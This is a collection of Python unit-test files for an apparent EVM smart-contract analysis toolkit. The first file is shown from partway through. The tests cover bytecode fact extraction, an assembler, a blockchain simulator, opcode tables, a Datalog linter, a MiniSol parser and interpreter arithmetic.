        assert any(w.address == 64 for w in facts.memory_writes)


class TestSinksAndSources:
    def test_caller_defs(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        assert facts.caller_defs

    def test_calldata_defs(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        assert facts.calldata_defs

    def test_selfdestruct_collected(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        assert len(facts.selfdestructs) == 1

    def test_delegatecall_fact(self, delegate_contract):
        facts = extract_facts(lift(delegate_contract.runtime))
        delegates = [c for c in facts.calls if c.kind == "DELEGATECALL"]
        assert len(delegates) == 1
        assert delegates[0].address_var

    def test_staticcall_offsets(self):
        facts = facts_for(
            """
contract S {
    function f(address w) public returns (uint256) { return staticcall_unchecked(w); }
}
"""
        )
        static = [c for c in facts.calls if c.kind == "STATICCALL"][0]
        assert static.in_offset == static.out_offset
        assert static.in_offset is not None

    def test_returndatasize_block_recorded(self):
        facts = facts_for(
            """
contract S {
    function f(address w) public returns (uint256) { return staticcall_checked(w); }
}
"""
        )
        static = [c for c in facts.calls if c.kind == "STATICCALL"][0]
        assert static.statement.block in facts.returndatasize_blocks

    def test_jumpis_collected(self, safe_contract):
        facts = extract_facts(lift(safe_contract.runtime))
        assert facts.jumpis

    def test_transfer_call_fact(self):
        facts = facts_for(
            """
contract S {
    function pay(address to) public { transfer(to, 1); }
}
"""
        )
        calls = [c for c in facts.calls if c.kind == "CALL"]
        assert len(calls) == 1
        assert calls[0].value_var is not None
