"""Assembler: label resolution, push sizing, init-code wrapping."""

import pytest
from hypothesis import given, strategies as st

from repro.evm.assembler import (
    AssemblyError,
    DataLabel,
    Label,
    LabelRef,
    Op,
    Push,
    RawBytes,
    assemble,
    init_code_for,
    layout,
    parse_asm,
)
from repro.evm.disassembler import disassemble


class TestPushSizing:
    def test_small_literal_uses_push1(self):
        assert assemble([Push(0x42)]) == bytes([0x60, 0x42])

    def test_zero_uses_push1(self):
        assert assemble([Push(0)]) == bytes([0x60, 0x00])

    def test_two_byte_literal_uses_push2(self):
        assert assemble([Push(0x1234)]) == bytes([0x61, 0x12, 0x34])

    def test_32_byte_literal(self):
        value = (1 << 256) - 1
        code = assemble([Push(value)])
        assert code[0] == 0x7F  # PUSH32
        assert len(code) == 33

    def test_negative_literal_rejected(self):
        with pytest.raises(AssemblyError):
            assemble([Push(-1)])

    def test_oversized_literal_rejected(self):
        with pytest.raises(AssemblyError):
            assemble([Push(1 << 256)])

    @given(st.integers(min_value=0, max_value=(1 << 256) - 1))
    def test_push_roundtrips_through_disassembler(self, value):
        code = assemble([Push(value)])
        (ins,) = disassemble(code)
        assert ins.operand == value


class TestLabels:
    def test_label_emits_jumpdest(self):
        code = assemble([Label("start"), Op("STOP")])
        assert code == bytes([0x5B, 0x00])

    def test_data_label_emits_nothing(self):
        code = assemble([DataLabel("data"), Op("STOP")])
        assert code == bytes([0x00])

    def test_label_ref_is_push2(self):
        code = assemble([LabelRef("end"), Op("JUMP"), Label("end")])
        # PUSH2 0x0004, JUMP, JUMPDEST
        assert code == bytes([0x61, 0x00, 0x04, 0x56, 0x5B])

    def test_duplicate_label_rejected(self):
        with pytest.raises(AssemblyError):
            assemble([Label("x"), Label("x")])

    def test_undefined_label_rejected(self):
        with pytest.raises(AssemblyError):
            assemble([LabelRef("nowhere")])

    def test_layout_offsets(self):
        offsets = layout([Push(0x01), Label("a"), Op("ADD"), DataLabel("b")])
        assert offsets == {"a": 2, "b": 4}

    def test_raw_bytes_spliced(self):
        code = assemble([RawBytes(b"\xde\xad"), Op("STOP")])
        assert code == b"\xde\xad\x00"

    def test_op_with_immediate_rejected(self):
        with pytest.raises(AssemblyError):
            assemble([Op("PUSH1")])


class TestParseAsm:
    def test_basic_program(self):
        items = parse_asm("PUSH 0x10\nloop:\n@loop\nJUMP ; comment")
        assert items == [Push(0x10), Label("loop"), LabelRef("loop"), Op("JUMP")]

    def test_comments_and_blank_lines(self):
        assert parse_asm("; only a comment\n\nADD") == [Op("ADD")]

    def test_decimal_push(self):
        assert parse_asm("PUSH 255") == [Push(255)]

    def test_malformed_push(self):
        with pytest.raises(AssemblyError):
            parse_asm("PUSH")

    def test_unexpected_operand(self):
        with pytest.raises(AssemblyError):
            parse_asm("ADD 3")


class TestInitCodeFor:
    @given(st.binary(min_size=1, max_size=400))
    def test_init_returns_runtime(self, runtime):
        """Executing the init prelude must return exactly the runtime."""
        from repro.chain import Blockchain

        chain = Blockchain()
        chain.fund(0xA, 10**18)
        receipt = chain.deploy(0xA, init_code_for(runtime))
        assert receipt.success
        assert chain.state.get_code(receipt.contract_address) == runtime

    def test_prelude_size_converges(self):
        # Large runtime forces a wider PUSH for the size/offset literals.
        runtime = b"\x00" * 300
        init = init_code_for(runtime)
        assert init.endswith(runtime)
