"""Blockchain simulator: deployment, transactions, rollback, receipts."""

import pytest

from repro.chain import Blockchain, WorldState
from repro.evm.assembler import Op, Push, assemble, init_code_for


@pytest.fixture
def chain():
    chain = Blockchain()
    chain.fund(0xA, 10**18)
    return chain


STORE_RUNTIME = assemble([Push(1), Push(0), Op("SSTORE"), Op("STOP")])


class TestWorldState:
    def test_fresh_account_defaults(self):
        state = WorldState()
        assert state.get_balance(0x1) == 0
        assert state.get_code(0x1) == b""
        assert state.get_storage(0x1, 0) == 0

    def test_balance_set_get(self):
        state = WorldState()
        state.set_balance(0x1, 500)
        assert state.get_balance(0x1) == 500

    def test_storage_zero_deletes_key(self):
        state = WorldState()
        state.set_storage(0x1, 5, 9)
        state.set_storage(0x1, 5, 0)
        assert 5 not in state.account(0x1).storage

    def test_snapshot_revert(self):
        state = WorldState()
        state.set_balance(0x1, 100)
        token = state.snapshot()
        state.set_balance(0x1, 999)
        state.set_storage(0x1, 0, 42)
        state.revert_to(token)
        assert state.get_balance(0x1) == 100
        assert state.get_storage(0x1, 0) == 0

    def test_commit_drops_snapshots(self):
        state = WorldState()
        token = state.snapshot()
        state.snapshot()
        state.commit(token)
        assert state._snapshots == []

    def test_destroyed_account_reads_empty(self):
        state = WorldState()
        state.set_code(0x1, b"\x00")
        state.set_storage(0x1, 0, 7)
        state.mark_destroyed(0x1)
        assert state.get_code(0x1) == b""
        assert state.get_storage(0x1, 0) == 0
        assert state.is_destroyed(0x1)

    def test_contract_addresses_unique(self):
        state = WorldState()
        first = state.next_contract_address(0xA, None, b"")
        second = state.next_contract_address(0xA, None, b"")
        assert first != second
        assert first < (1 << 160)


class TestDeployment:
    def test_deploy_stores_runtime(self, chain):
        receipt = chain.deploy(0xA, init_code_for(STORE_RUNTIME))
        assert receipt.success
        assert chain.state.get_code(receipt.contract_address) == STORE_RUNTIME

    def test_deploy_with_value_endows_contract(self, chain):
        receipt = chain.deploy(0xA, init_code_for(STORE_RUNTIME), value=555)
        assert chain.state.get_balance(receipt.contract_address) == 555

    def test_failed_deploy_refunds(self, chain):
        bad_init = assemble([Op("INVALID")])
        before = chain.state.get_balance(0xA)
        receipt = chain.deploy(0xA, bad_init, value=100)
        assert not receipt.success
        assert receipt.contract_address is None
        assert chain.state.get_balance(0xA) == before

    def test_insufficient_funds_rejected(self, chain):
        receipt = chain.deploy(0xA, init_code_for(STORE_RUNTIME), value=10**19)
        assert not receipt.success
        assert receipt.error == "insufficient funds"


class TestTransactions:
    def test_transact_advances_block(self, chain):
        target = chain.deploy(0xA, init_code_for(STORE_RUNTIME)).contract_address
        start = chain.block_number
        chain.transact(0xA, target)
        assert chain.block_number == start + 1

    def test_transact_mutates_storage(self, chain):
        target = chain.deploy(0xA, init_code_for(STORE_RUNTIME)).contract_address
        chain.transact(0xA, target)
        assert chain.state.get_storage(target, 0) == 1

    def test_failed_transact_refunds_value(self, chain):
        reverter = chain.deploy(
            0xA, init_code_for(assemble([Push(0), Push(0), Op("REVERT")]))
        ).contract_address
        before = chain.state.get_balance(0xA)
        receipt = chain.transact(0xA, reverter, value=100)
        assert not receipt.success
        assert chain.state.get_balance(0xA) == before

    def test_value_transfer_to_stop_contract(self, chain):
        target = chain.deploy(0xA, init_code_for(assemble([Op("STOP")]))).contract_address
        chain.transact(0xA, target, value=321)
        assert chain.state.get_balance(target) == 321

    def test_receipts_recorded(self, chain):
        target = chain.deploy(0xA, init_code_for(STORE_RUNTIME)).contract_address
        chain.transact(0xA, target)
        assert len(chain.receipts) == 2
        assert chain.receipts[-1].transaction.to == target


class TestReadOnlyCall:
    def test_call_does_not_mutate(self, chain):
        target = chain.deploy(0xA, init_code_for(STORE_RUNTIME)).contract_address
        result = chain.call(0xB, target)
        assert result.success
        assert chain.state.get_storage(target, 0) == 0

    def test_call_returns_data(self, chain):
        runtime = assemble([Push(0xAB), Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")])
        target = chain.deploy(0xA, init_code_for(runtime)).contract_address
        result = chain.call(0xB, target)
        assert int.from_bytes(result.return_data, "big") == 0xAB
