"""Opcode table invariants."""

import pytest

from repro.evm.opcodes import OPCODES, is_push_name, opcode_by_name, opcode_by_value


class TestTableShape:
    def test_push_range_present(self):
        for n in range(1, 33):
            op = opcode_by_name("PUSH%d" % n)
            assert op.value == 0x60 + n - 1
            assert op.immediate_size == n
            assert op.is_push

    def test_dup_range_present(self):
        for n in range(1, 17):
            op = opcode_by_name("DUP%d" % n)
            assert op.value == 0x80 + n - 1
            assert op.pops == n
            assert op.pushes == n + 1
            assert op.is_dup

    def test_swap_range_present(self):
        for n in range(1, 17):
            op = opcode_by_name("SWAP%d" % n)
            assert op.value == 0x90 + n - 1
            assert op.pops == n + 1
            assert op.is_swap

    def test_values_unique_and_consistent(self):
        for value, op in OPCODES.items():
            assert op.value == value

    def test_known_core_opcodes(self):
        assert opcode_by_name("SELFDESTRUCT").value == 0xFF
        assert opcode_by_name("DELEGATECALL").value == 0xF4
        assert opcode_by_name("STATICCALL").value == 0xFA
        assert opcode_by_name("SHA3").value == 0x20
        assert opcode_by_name("SSTORE").value == 0x55
        assert opcode_by_name("JUMPI").value == 0x57

    def test_stack_arity_sane(self):
        for op in OPCODES.values():
            assert 0 <= op.pops <= 17
            assert 0 <= op.pushes <= 17


class TestTerminators:
    @pytest.mark.parametrize(
        "name", ["STOP", "RETURN", "REVERT", "INVALID", "SELFDESTRUCT", "JUMP"]
    )
    def test_terminators(self, name):
        assert opcode_by_name(name).is_terminator

    @pytest.mark.parametrize("name", ["JUMPI", "ADD", "CALL", "SSTORE"])
    def test_non_terminators(self, name):
        assert not opcode_by_name(name).is_terminator

    def test_jumpi_alters_control_flow(self):
        assert opcode_by_name("JUMPI").alters_control_flow
        assert not opcode_by_name("ADD").alters_control_flow


class TestLookup:
    def test_unknown_value_yields_placeholder(self):
        op = opcode_by_value(0x21)
        assert op.name.startswith("UNKNOWN")
        assert op.pops == 0 and op.pushes == 0

    def test_unknown_name_raises(self):
        with pytest.raises(KeyError):
            opcode_by_name("FROBNICATE")

    def test_is_push_name(self):
        assert is_push_name("PUSH1")
        assert is_push_name("PUSH32")
        assert not is_push_name("PUSH")
        assert not is_push_name("PUSHY")
