"""Datalog program linter: seeded-defect detection with line anchoring,
clean shipped rules, and the stratification preview."""

import pytest

from repro.datalog import DatalogSyntaxError, parse_program, parse_program_lenient
from repro.datalog.lint import (
    LintFinding,
    format_findings,
    has_errors,
    lint_cross_program,
    lint_shipped,
    lint_text,
    register_program,
    shipped_finding_count,
    shipped_programs,
    stratification_preview,
    unregister_program,
)


def codes(findings):
    return [finding.code for finding in findings]


class TestSeededDefects:
    def test_unbound_head_variable(self):
        findings = lint_text("Bad(x, q) :- Edge(x, y).", source="t")
        assert codes(findings) == ["unsafe-rule"]
        assert findings[0].severity == "error"
        assert findings[0].line == 1
        assert "q" in findings[0].message

    def test_negation_unbound_variable(self):
        findings = lint_text("Safe(x) :- Node(x), !Edge(x, z).", source="t")
        assert codes(findings) == ["unsafe-rule"]

    def test_arity_mismatch_against_decl(self):
        text = ".decl Edge(a, b)\n\nPath(x) :- Edge(x, y, z)."
        findings = lint_text(text, source="t")
        assert "arity-mismatch" in codes(findings)
        finding = next(f for f in findings if f.code == "arity-mismatch")
        assert finding.line == 3
        assert "declared" in finding.message and "line 1" in finding.message

    def test_arity_mismatch_against_prior_use(self):
        text = "Path(x) :- Edge(x, y).\nPath(x) :- Edge(x)."
        findings = lint_text(text, source="t")
        finding = next(f for f in findings if f.code == "arity-mismatch")
        assert finding.line == 2
        assert "used" in finding.message

    def test_negation_in_recursive_component(self):
        text = "Odd(x) :- Edge(x, y), !Even(y).\nEven(x) :- Edge(x, y), !Odd(y)."
        findings = lint_text(text, source="t")
        recursion = [f for f in findings if f.code == "negation-in-recursion"]
        assert len(recursion) == 2
        assert {f.line for f in recursion} == {1, 2}

    def test_direct_negative_self_recursion(self):
        findings = lint_text("P(x) :- Q(x), !P(x).", source="t")
        assert "negation-in-recursion" in codes(findings)

    def test_wildcard_in_head(self):
        findings = lint_text("Out(_) :- In(x).", source="t")
        assert "wildcard-head" in codes(findings)

    def test_duplicate_declaration(self):
        text = ".decl Edge(a, b)\n.decl Edge(a, b)"
        findings = lint_text(text, source="t")
        duplicate = [f for f in findings if f.code == "duplicate-decl"]
        assert len(duplicate) == 1
        assert duplicate[0].severity == "warning"
        assert duplicate[0].line == 2

    def test_duplicate_rule(self):
        text = "P(x) :- Q(x).\nP(x) :- Q(x)."
        findings = lint_text(text, source="t")
        duplicate = [f for f in findings if f.code == "duplicate-rule"]
        assert len(duplicate) == 1
        assert duplicate[0].line == 2
        assert "line 1" in duplicate[0].message

    def test_unused_declared_relation(self):
        text = ".decl Ghost(a)\nP(x) :- Q(x)."
        findings = lint_text(text, source="t")
        unused = [f for f in findings if f.code == "unused-relation"]
        assert len(unused) == 1
        assert unused[0].line == 1
        assert "Ghost" in unused[0].message

    def test_syntax_error_becomes_finding(self):
        findings = lint_text("P(x :- Q(x).", source="t")
        assert codes(findings) == ["syntax-error"]
        assert findings[0].severity == "error"
        assert findings[0].line >= 1

    def test_clean_program_has_no_findings(self):
        text = """
.decl Edge(a, b)
Path(x, y) :- Edge(x, y).
Path(x, z) :- Path(x, y), Edge(y, z).
Safe(x) :- Edge(x, _), !Path(x, x).
"""
        assert lint_text(text, source="t") == []


class TestDredNegation:
    def test_negation_in_recursive_stratum_is_flagged(self):
        text = (
            "P(x) :- Q(x).\n"
            "Q(x) :- Edge(x, y), P(y).\n"
            "P(x) :- Node(x), !Q(x)."
        )
        findings = lint_text(text, source="t")
        dred = [f for f in findings if f.code == "dred-negation"]
        assert len(dred) == 1
        assert dred[0].severity == "error"
        assert dred[0].line == 3
        assert "rederive" in dred[0].message

    def test_direct_negative_self_recursion_is_flagged(self):
        findings = lint_text("P(x) :- Q(x), !P(x).", source="t")
        assert "dred-negation" in codes(findings)

    def test_negation_on_lower_stratum_is_dred_safe(self):
        """Negating a recursive relation from a higher stratum is fine:
        apply_changes() sees lower strata settled before the rule runs."""
        text = (
            "Path(x, z) :- Path(x, y), Edge(y, z).\n"
            "Path(x, y) :- Edge(x, y).\n"
            "Isolated(x) :- Node(x), !Path(x, x)."
        )
        findings = lint_text(text, source="t")
        assert "dred-negation" not in codes(findings)

    def test_negation_on_edb_is_dred_safe(self):
        findings = lint_text("Out(x) :- In(x), !Blocked(x).", source="t")
        assert "dred-negation" not in codes(findings)


class TestStrictParser:
    def test_arity_mismatch_raises_with_line(self):
        with pytest.raises(DatalogSyntaxError) as excinfo:
            parse_program(".decl Edge(a, b)\nP(x) :- Edge(x, y, z).")
        assert excinfo.value.line == 2
        assert "arity" in str(excinfo.value)

    def test_mismatch_against_prior_use_raises(self):
        with pytest.raises(DatalogSyntaxError):
            parse_program("P(x) :- Edge(x, y).\nQ(x) :- Edge(x).")

    def test_lenient_collects_instead_of_raising(self):
        program = parse_program_lenient(
            ".decl Edge(a, b)\nP(x) :- Edge(x, y, z).\nBad(x, q) :- Edge(x, y)."
        )
        assert sorted(issue.code for issue in program.issues) == [
            "arity-mismatch",
            "unsafe-rule",
        ]
        # The unsafe rule is still materialized for inspection.
        assert len(program.rules) == 2


class TestRendering:
    def test_render_shape(self):
        finding = LintFinding(
            source="rules.dl", line=3, code="unsafe-rule",
            severity="error", message="boom",
        )
        assert finding.render() == "rules.dl:3: [error] unsafe-rule: boom"

    def test_format_and_has_errors(self):
        findings = lint_text("Bad(x, q) :- Edge(x, y).", source="t")
        assert has_errors(findings)
        assert "unsafe-rule" in format_findings(findings)
        assert not has_errors([])


class TestShippedRules:
    def test_shipped_rules_are_clean(self):
        assert lint_shipped() == []

    def test_shipped_programs_cover_both_modules(self):
        names = [name for name, _ in shipped_programs()]
        assert any("datalog_rules" in name for name in names)
        assert any("bytecode_datalog" in name for name in names)
        assert any("linkage" in name for name in names)


class TestCrossProgramChecks:
    def test_cross_arity_mismatch_flags_every_declaration(self):
        findings = lint_cross_program(
            [
                ("a.dl", ".decl Edge(x, y)\nPath(x, y) :- Edge(x, y)."),
                ("b.dl", ".decl Edge(x, y, w)\nPath(x, y) :- Edge(x, y, w)."),
            ]
        )
        mismatches = [f for f in findings if f.code == "cross-arity-mismatch"]
        assert len(mismatches) == 2  # one anchored in each program
        assert {f.source for f in mismatches} == {"a.dl", "b.dl"}
        assert all(f.severity == "error" for f in mismatches)
        assert has_errors(findings)

    def test_consistent_arities_across_programs_are_clean(self):
        findings = lint_cross_program(
            [
                ("a.dl", ".decl Edge(x, y)\nPath(x, y) :- Edge(x, y)."),
                ("b.dl", ".decl Edge(x, y)\nLoop(x) :- Edge(x, x)."),
            ]
        )
        assert [f for f in findings if f.code == "cross-arity-mismatch"] == []

    def test_unread_edb_is_a_warning(self):
        findings = lint_cross_program(
            [("a.dl", ".decl Orphan(x)\nPath(x, y) :- Edge(x, y).")]
        )
        assert codes(findings) == ["unread-edb"]
        assert findings[0].severity == "warning"
        assert "Orphan" in findings[0].message

    def test_relation_read_in_another_program_is_not_unread(self):
        findings = lint_cross_program(
            [
                ("a.dl", ".decl Seed(x)"),
                ("b.dl", "Out(x) :- Seed(x)."),
            ]
        )
        assert [f for f in findings if f.code == "unread-edb"] == []

    def test_syntax_error_programs_are_skipped(self):
        findings = lint_cross_program(
            [("bad.dl", "This is not Datalog ::-")]
        )
        assert findings == []

    def test_shipped_cross_checks_run_in_lint_shipped(self):
        register_program("test:cross", ".decl Phantom(a, b)")
        try:
            found = lint_shipped()
            assert any(
                f.code == "unread-edb" and "Phantom" in f.message
                for f in found
            )
        finally:
            unregister_program("test:cross")
        assert lint_shipped() == []


class TestFindingCountInvalidation:
    def test_register_program_invalidates_cached_count(self):
        shipped_finding_count.cache_clear()
        baseline = shipped_finding_count()
        # A registered program with a lint finding must change the cached
        # count immediately — the regression was a stale lru_cache serving
        # the pre-registration value.
        register_program("test:stale", "Bad(x, q) :- Edge(x, y).")
        try:
            assert shipped_finding_count() > baseline
        finally:
            unregister_program("test:stale")
        assert shipped_finding_count() == baseline

    def test_unregister_missing_program_is_noop(self):
        before = shipped_finding_count()
        unregister_program("test:never-registered")
        assert shipped_finding_count() == before


class TestStratificationPreview:
    def test_strata_ordering(self):
        program = parse_program_lenient(
            "Path(x, y) :- Edge(x, y).\n"
            "Path(x, z) :- Path(x, y), Edge(y, z).\n"
            "Unreached(x) :- Node(x), !Path(root, x)."
        )
        strata = stratification_preview(program.rules)
        flat = {rel: level for level, group in enumerate(strata) for rel in group}
        assert flat["Path"] > flat["Edge"]
        assert flat["Unreached"] > flat["Path"]

    def test_recursive_component_is_one_stratum(self):
        program = parse_program_lenient(
            "Odd(x) :- Succ(y, x), Even(y).\n"
            "Even(x) :- Succ(y, x), Odd(y).\n"
            "Even(x) :- Zero(x)."
        )
        strata = stratification_preview(program.rules)
        together = [group for group in strata if "Odd" in group]
        assert together and "Even" in together[0]
