"""MiniSol parser: AST shapes and syntax errors."""

import pytest

from repro.minisol import ast_nodes as ast
from repro.minisol.parser import ParseError, parse


def parse_contract(body):
    return parse("contract C { %s }" % body).contract("C")


class TestContractStructure:
    def test_empty_contract(self):
        program = parse("contract Empty {}")
        assert program.contract("Empty").functions == []

    def test_multiple_contracts(self):
        program = parse("contract A {} contract B {}")
        assert [c.name for c in program.contracts] == ["A", "B"]

    def test_state_vars_in_order(self):
        contract = parse_contract("uint256 a; address b; bool c;")
        assert [v.name for v in contract.state_vars] == ["a", "b", "c"]
        assert str(contract.state_vars[0].var_type) == "uint256"

    def test_uint_alias(self):
        contract = parse_contract("uint x;")
        assert str(contract.state_vars[0].var_type) == "uint256"

    def test_mapping_type(self):
        contract = parse_contract("mapping(address => bool) m;")
        mapping = contract.state_vars[0].var_type
        assert isinstance(mapping, ast.MappingType)
        assert mapping.key.name == "address"

    def test_nested_mapping(self):
        contract = parse_contract("mapping(address => mapping(address => uint256)) m;")
        mapping = contract.state_vars[0].var_type
        assert isinstance(mapping.value, ast.MappingType)

    def test_state_var_initializer(self):
        contract = parse_contract("uint256 x = 5;")
        assert isinstance(contract.state_vars[0].initializer, ast.NumberLiteral)

    def test_constructor(self):
        contract = parse_contract("constructor(address a) { }")
        assert contract.constructor is not None
        assert contract.constructor.params[0].name == "a"

    def test_duplicate_constructor_rejected(self):
        with pytest.raises(ParseError):
            parse_contract("constructor() {} constructor() {}")


class TestFunctions:
    def test_visibility_default_public(self):
        contract = parse_contract("function f() { }")
        assert contract.function("f").visibility == "public"

    def test_internal_visibility(self):
        contract = parse_contract("function f() internal { }")
        assert not contract.function("f").is_public

    def test_returns_clause(self):
        contract = parse_contract("function f() public returns (uint256) { return 1; }")
        assert contract.function("f").return_type.name == "uint256"

    def test_ignored_mutability_keywords(self):
        contract = parse_contract("function f() public view returns (bool) { return true; }")
        assert contract.function("f").return_type.name == "bool"

    def test_modifier_invocation(self):
        contract = parse_contract(
            "modifier only() { _; } function f() public only { }"
        )
        assert contract.function("f").modifiers[0].name == "only"

    def test_modifier_with_args(self):
        contract = parse_contract(
            "modifier atLeast(uint256 n) { _; } function f() public atLeast(3) { }"
        )
        invocation = contract.function("f").modifiers[0]
        assert isinstance(invocation.args[0], ast.NumberLiteral)

    def test_signature(self):
        contract = parse_contract("function f(address a, uint256 b) public { }")
        assert contract.function("f").signature == "f(address,uint256)"


class TestStatements:
    def _first_stmt(self, body):
        contract = parse_contract("function f(uint256 p) public { %s }" % body)
        return contract.function("f").body.statements[0]

    def test_vardecl(self):
        stmt = self._first_stmt("uint256 x = p + 1;")
        assert isinstance(stmt, ast.VarDecl)
        assert isinstance(stmt.initializer, ast.BinaryOp)

    def test_assignment(self):
        assert isinstance(self._first_stmt("p = 1;"), ast.Assign)

    def test_compound_assignment(self):
        stmt = self._first_stmt("p += 2;")
        assert stmt.op == "+="

    def test_indexed_assignment(self):
        contract = parse_contract(
            "mapping(address => bool) m; function f(address a) public { m[a] = true; }"
        )
        stmt = contract.function("f").body.statements[0]
        assert isinstance(stmt.target, ast.IndexAccess)

    def test_if_else(self):
        stmt = self._first_stmt("if (p > 1) { p = 1; } else { p = 2; }")
        assert isinstance(stmt, ast.If)
        assert stmt.else_branch is not None

    def test_while(self):
        assert isinstance(self._first_stmt("while (p > 0) { p -= 1; }"), ast.While)

    def test_require(self):
        assert isinstance(self._first_stmt("require(p == 1);"), ast.Require)

    def test_return_void(self):
        stmt = self._first_stmt("return;")
        assert isinstance(stmt, ast.Return)
        assert stmt.value is None

    def test_placeholder_in_modifier(self):
        contract = parse_contract("modifier m() { _; }")
        assert isinstance(contract.modifiers[0].body.statements[0], ast.Placeholder)

    def test_expression_statement(self):
        assert isinstance(self._first_stmt("selfdestruct(msg.sender);"), ast.ExprStmt)

    def test_invalid_assign_target(self):
        with pytest.raises(ParseError):
            self._first_stmt("1 = 2;")


class TestExpressions:
    def _expr(self, text):
        contract = parse_contract(
            "function f(uint256 p, address q) public returns (uint256) { return %s; }" % text
        )
        return contract.function("f").body.statements[0].value

    def test_precedence_mul_over_add(self):
        expr = self._expr("1 + 2 * 3")
        assert expr.op == "+"
        assert expr.right.op == "*"

    def test_parenthesized(self):
        expr = self._expr("(1 + 2) * 3")
        assert expr.op == "*"

    def test_comparison_and_logic(self):
        expr = self._expr("p > 1 && p < 10")
        assert expr.op == "&&"
        assert expr.left.op == ">"

    def test_unary_not_and_neg(self):
        assert self._expr("!true").op == "!"
        assert self._expr("-p").op == "-"

    def test_msg_sender_and_value(self):
        assert isinstance(self._expr("msg.sender"), ast.MsgSender)
        assert isinstance(self._expr("msg.value"), ast.MsgValue)

    def test_unknown_msg_member(self):
        with pytest.raises(ParseError):
            self._expr("msg.gas")

    def test_this(self):
        assert isinstance(self._expr("this"), ast.ThisExpr)

    def test_chained_index(self):
        expr = self._expr("p")  # placeholder; parse directly below
        contract = parse_contract(
            "mapping(address => mapping(address => uint256)) m;"
            "function g(address a) public returns (uint256) { return m[a][a]; }"
        )
        ret = contract.function("g").body.statements[0].value
        assert isinstance(ret, ast.IndexAccess)
        assert isinstance(ret.base, ast.IndexAccess)

    def test_internal_call(self):
        expr = self._expr("helper(p, 1)")
        assert isinstance(expr, ast.CallExpr)
        assert len(expr.args) == 2

    def test_external_call(self):
        expr = self._expr('call(q, "ping()")')
        assert isinstance(expr, ast.ExternalCall)
        assert expr.signature == "ping()"

    def test_external_call_with_args(self):
        expr = self._expr('call(q, "set(uint256)", p)')
        assert len(expr.args) == 1

    def test_external_call_requires_signature(self):
        with pytest.raises(ParseError):
            self._expr("call(q)")

    def test_number_formats(self):
        assert self._expr("0x10").value == 16
        assert self._expr("10").value == 10
