"""EVM interpreter semantics.

Each group runs small assembled programs against a fresh world state; the
arithmetic/bitwise groups are cross-checked against Python reference
semantics with hypothesis.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.chain import Blockchain, WorldState
from repro.evm.assembler import Op, Push, assemble, init_code_for, parse_asm
from repro.evm.hashing import UINT_MAX, keccak_int
from repro.evm.machine import CallContext, Machine

ATTACKER = 0xA11CE
WORD = (1 << 256) - 1


def run_code(items, calldata=b"", value=0, address=0xC0DE, caller=0xCA11, state=None):
    """Assemble and execute; return (ExecutionResult, state)."""
    state = state or WorldState()
    code = assemble(items)
    machine = Machine(state)
    result = machine.execute(
        CallContext(
            address=address,
            caller=caller,
            origin=caller,
            value=value,
            calldata=calldata,
            code=code,
        )
    )
    return result, state


def run_expr(items):
    """Run items then return the top of stack via MSTORE/RETURN."""
    tail = [Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")]
    result, _ = run_code(items + tail)
    assert result.success, result.error
    return int.from_bytes(result.return_data, "big")


def signed(value):
    return value - (1 << 256) if value >> 255 else value


uint = st.integers(min_value=0, max_value=WORD)


class TestArithmetic:
    @given(uint, uint)
    @settings(max_examples=60)
    def test_add(self, a, b):
        assert run_expr([Push(b), Push(a), Op("ADD")]) == (a + b) & WORD

    @given(uint, uint)
    @settings(max_examples=60)
    def test_sub(self, a, b):
        assert run_expr([Push(b), Push(a), Op("SUB")]) == (a - b) & WORD

    @given(uint, uint)
    @settings(max_examples=60)
    def test_mul(self, a, b):
        assert run_expr([Push(b), Push(a), Op("MUL")]) == (a * b) & WORD

    @given(uint, uint)
    @settings(max_examples=60)
    def test_div(self, a, b):
        expected = 0 if b == 0 else a // b
        assert run_expr([Push(b), Push(a), Op("DIV")]) == expected

    @given(uint, uint)
    @settings(max_examples=60)
    def test_mod(self, a, b):
        expected = 0 if b == 0 else a % b
        assert run_expr([Push(b), Push(a), Op("MOD")]) == expected

    @given(uint, uint)
    @settings(max_examples=40)
    def test_sdiv(self, a, b):
        sa, sb = signed(a), signed(b)
        if sb == 0:
            expected = 0
        else:
            quotient = abs(sa) // abs(sb)
            expected = (-quotient if (sa < 0) != (sb < 0) else quotient) & WORD
        assert run_expr([Push(b), Push(a), Op("SDIV")]) == expected

    @given(uint, uint)
    @settings(max_examples=40)
    def test_smod(self, a, b):
        sa, sb = signed(a), signed(b)
        if sb == 0:
            expected = 0
        else:
            expected = ((abs(sa) % abs(sb)) * (-1 if sa < 0 else 1)) & WORD
        assert run_expr([Push(b), Push(a), Op("SMOD")]) == expected

    def test_div_by_zero(self):
        assert run_expr([Push(0), Push(7), Op("DIV")]) == 0

    @given(uint, uint, uint)
    @settings(max_examples=30)
    def test_addmod(self, a, b, n):
        expected = 0 if n == 0 else (a + b) % n
        assert run_expr([Push(n), Push(b), Push(a), Op("ADDMOD")]) == expected

    @given(uint, uint, uint)
    @settings(max_examples=30)
    def test_mulmod(self, a, b, n):
        expected = 0 if n == 0 else (a * b) % n
        assert run_expr([Push(n), Push(b), Push(a), Op("MULMOD")]) == expected

    @given(st.integers(0, 1 << 64), st.integers(0, 300))
    @settings(max_examples=30)
    def test_exp(self, base, exponent):
        assert run_expr([Push(exponent), Push(base), Op("EXP")]) == pow(
            base, exponent, 1 << 256
        )

    def test_signextend(self):
        # Sign-extend 0xFF from byte 0: all ones.
        assert run_expr([Push(0xFF), Push(0), Op("SIGNEXTEND")]) == WORD
        assert run_expr([Push(0x7F), Push(0), Op("SIGNEXTEND")]) == 0x7F
        assert run_expr([Push(0xFF), Push(31), Op("SIGNEXTEND")]) == 0xFF


class TestComparison:
    @given(uint, uint)
    @settings(max_examples=60)
    def test_lt_gt_eq(self, a, b):
        assert run_expr([Push(b), Push(a), Op("LT")]) == int(a < b)
        assert run_expr([Push(b), Push(a), Op("GT")]) == int(a > b)
        assert run_expr([Push(b), Push(a), Op("EQ")]) == int(a == b)

    @given(uint, uint)
    @settings(max_examples=40)
    def test_slt_sgt(self, a, b):
        assert run_expr([Push(b), Push(a), Op("SLT")]) == int(signed(a) < signed(b))
        assert run_expr([Push(b), Push(a), Op("SGT")]) == int(signed(a) > signed(b))

    def test_iszero(self):
        assert run_expr([Push(0), Op("ISZERO")]) == 1
